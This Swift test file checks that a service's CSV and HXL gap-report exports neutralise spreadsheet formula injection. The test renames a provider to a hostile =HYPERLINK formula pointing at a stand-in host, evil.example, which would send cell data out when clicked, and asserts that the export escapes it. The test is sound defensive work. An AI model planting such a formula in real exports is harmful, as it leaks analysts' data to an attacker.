import Foundation
import HTTPTypes
import HummingbirdTesting
import PassageCore
import Postgres
import TestSupport
import Testing

/// Formula injection (Docs/security.md item 14) over the HTTP API: a provider's name is outside
/// text, and GAPS by provider carries it into the CSV and HXL files analysts open in a
/// spreadsheet. The name comes out with a quote in front, inside double quotes.
@Suite(.serialized) struct GapsFormulaInjectionTests {
    static let hostile = #"=HYPERLINK("https://evil.example/?"&A1,"details")"#

    /// The gaps world with eight overdue referrals to Casa Segura (enough that its row is shown,
    /// k = 5), renamed to `hostile`.
    static func makeHostileProvider(on pool: PostgresPool) async throws {
        try await pool.transaction { db in
            var world = try GapFixture(on: db)
            let provider = try #require(world.providers["Casa Segura"])
            // Enough overdue referrals to the provider that its row is shown (k = 5).
            for index in 0..<8 {
                world.needs["x\(index)"] = try world.need(
                    "c1", "LP-ND", status: "open", identified: GapFixture.ago(days: 12), on: db)
                try world.referral(
                    "x\(index)", "Casa Segura", "legal_assistance", priority: "emergency", status: "pending",
                    created: GapFixture.ago(days: 10), accepted: nil, closed: nil, on: db)
            }
            try db.execute(
                """
                UPDATE organisations SET name = \(Self.hostile)
                 WHERE id = (SELECT organisation_id FROM providers WHERE id = \(provider))
                """)
        }
    }

    @Test func aProviderNamedLikeAFormulaIsNeutralisedInCSVAndHXL() async throws {
        try await HTTPFixture.with(accounts: GapsOperationsTests.accounts) { fixture, client in
            try await Self.makeHostileProvider(on: fixture.pool)
            let policy = try await client.signIn("gap-policy")
            for format in ["csv", "hxl"] {
                let answer = try await client.call(.get, "/v1/gaps/overdue?by=provider&format=\(format)", as: policy)
                #expect(answer.status == .ok, "\(format): \(answer.text)")
                let lines = answer.text.components(separatedBy: "\r\n")
                let quoted = "\"'" + Self.hostile.replacingOccurrences(of: "\"", with: "\"\"") + "\","
                #expect(lines.contains { $0.hasPrefix(quoted) }, "\(format): [\(answer.text)]")
                #expect(!lines.contains { $0.hasPrefix("=") || $0.hasPrefix("\"=") }, "\(format): \(answer.text)")
            }
        }
    }
}
